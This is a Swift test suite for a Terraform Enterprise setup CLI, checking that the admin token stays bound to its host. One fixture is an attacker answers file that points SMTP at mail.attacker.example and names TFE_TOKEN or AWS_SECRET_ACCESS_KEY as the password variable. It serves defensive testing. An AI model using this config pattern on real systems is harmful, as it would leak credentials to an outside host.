import Foundation
import Testing
import TestSupport
import TFEClient
import TFESandbox

/// A shared answers file must never be able to send the admin's token, or another secret,
/// somewhere else. A second sandbox plays the stranger's listener:
/// its request log counts what reached it.
extension TerminalSuite {
@Suite("The token is bound to its host")
struct TokenBindingTests {

    /// Runs `tfe-setup` with exactly these arguments and environment (nothing added).
    static func run(_ args: [String], env: [String: String], in dir: String) async -> (status: Int32, output: String) {
        let command = ["/usr/bin/env", "-i", "PATH=/usr/bin:/bin", "HOME=\(dir)", "LANG=C.UTF-8"] + env.map { "\($0.key)=\($0.value)" }
            + [TmuxSession.binary] + args
        return await Subprocess.runAsync(["/bin/sh", "-c", command.map(TmuxSession.quote).joined(separator: " ") + " 2>&1"])
    }

    @Test("an address only the answers file names gets nothing: exit 1 before any request, saying how to confirm it")
    func answersAddressRefused() async throws {
        try await CLI.with { server, dir in
            let listener = try await SandboxServer.start(options: SandboxOptions(rateLimit: 0))
            let shared = CLI.write(dir, "shared.json", #"{"address":"\#(listener.address)","organization":"my-org","token_ttl":{"user":"30d"}}"#)
            let tokenFile = dir + "/token"
            _ = FileManager.default.createFile(atPath: tokenFile, contents: Data(server.tokens.siteAdmin.utf8), attributes: [.posixPermissions: 0o600])
            for (what, args, env) in [
                ("TFE_TOKEN", ["plan", "--answers", shared], ["TFE_TOKEN": server.tokens.siteAdmin]),
                ("--token-file", ["plan", "--answers", shared, "--token-file", tokenFile], [:]),
                ("apply, TFE_TOKEN", ["apply", "--answers", shared, "--auto-approve"], ["TFE_TOKEN": server.tokens.siteAdmin]),
                ("TFE_ADDRESS names another server", ["plan", "--answers", shared], ["TFE_TOKEN": server.tokens.siteAdmin, "TFE_ADDRESS": server.address]),
            ] {
                let r = await Self.run(args, env: env, in: dir)
                #expect(r.status == 1, "\(what): \(r.output)")
                #expect(r.output.contains("The answers file names the server \(listener.address)"), "\(what): \(r.output)")
                #expect(r.output.contains("--address \(listener.address)"), "\(what): says how to confirm it")
            }
            #expect(await listener.store.requestLog.isEmpty, "the listener received nothing")
            #expect(await server.store.requestLog.isEmpty, "and nothing went anywhere else either")

            // Confirmed: by --address, by TFE_ADDRESS, or by a token tied to that host.
            let listenerToken = listener.tokens.siteAdmin
            for (what, args, env) in [
                ("--address", ["plan", "--answers", shared, "--address", listener.address], ["TFE_TOKEN": listenerToken]),
                ("TFE_ADDRESS", ["plan", "--answers", shared], ["TFE_TOKEN": listenerToken, "TFE_ADDRESS": listener.address]),
                ("credentials file host:port", ["plan", "--answers", shared], [:]),
            ] {
                // The listener has a port, which TF_TOKEN_ cannot name: its host-bound token is the
                // credentials file's `host:port` entry, as `terraform login` writes it.
                try FileManager.default.createDirectory(atPath: dir + "/.terraform.d", withIntermediateDirectories: true)
                let key = TokenLookup.credentialsHost(for: try #require(URL(string: listener.address)))
                try #"{"credentials":{"\#(key)":{"token":"\#(listenerToken)"}}}"#.write(toFile: dir + "/.terraform.d/credentials.tfrc.json", atomically: true, encoding: .utf8)
                let before = await listener.store.requestLog.count
                let r = await Self.run(args, env: env, in: dir)
                #expect(r.status == 2, "\(what): \(r.output)")
                #expect(r.output.contains("tfe-setup: \(listener.address) · organization my-org · token from"), "\(what): the target is named first")
                #expect(await listener.store.requestLog.count > before, "\(what)")
            }
            await listener.stop()
        }
    }

    @Test("password_env naming the API token, another secret's variable, or a variable holding the token is refused before any request")
    func passwordEnvRefused() async throws {
        try await CLI.with { server, dir in
            let tokenFile = dir + "/token"
            _ = FileManager.default.createFile(atPath: tokenFile, contents: Data(server.tokens.siteAdmin.utf8), attributes: [.posixPermissions: 0o600])
            let attacker = #"{"organization":"my-org","smtp":{"enabled":true,"host":"mail.attacker.example","port":25,"sender":"x@attacker.example","auth":"login","username":"u","password_env":"%@","test_email_address":"x@attacker.example"}}"#
            for (variable, env, why) in [("TFE_TOKEN", ["TFE_TOKEN": server.tokens.siteAdmin], "not a variable for the SMTP password"),
                                         ("AWS_SECRET_ACCESS_KEY", ["AWS_SECRET_ACCESS_KEY": "fake-aws-secret-canary"], "not a variable for the SMTP password"),
                                         ("SMTP_INNOCENT", ["SMTP_INNOCENT": server.tokens.siteAdmin], "API token")] {
                let file = CLI.write(dir, "attacker-\(variable).json", attacker.replacingOccurrences(of: "%@", with: variable))
                for command in ["plan", "apply"] {
                    let args = [command, "--answers", file, "--address", server.address, "--token-file", tokenFile] + (command == "apply" ? ["--auto-approve"] : [])
                    let r = await Self.run(args, env: env, in: dir)
                    #expect(r.status == 1, "\(variable) \(command): \(r.output)")
                    #expect(r.output.contains(why), "\(variable) \(command): \(r.output)")
                    #expect(!r.output.contains(server.tokens.siteAdmin) && !r.output.contains("fake-aws-secret-canary"))
                }
            }
            #expect(await server.store.requestLog.isEmpty, "refused before any request")
            #expect(await server.store.sentEmails.isEmpty)
        }
    }

    @Test("plan names where the password comes from") func passwordSourceNamed() async throws {
        try await CLI.with { server, dir in
            let file = CLI.write(dir, "answers.json", CLI.seed)
            let r = await CLI.run(server, dir, ["plan", "--answers", file])
            #expect(r.status == 2, "\(r.output)")
            #expect(r.output.contains("Password: (will be sent), from $SMTP_PASSWORD"), "\(r.output)")
        }
    }
}
}
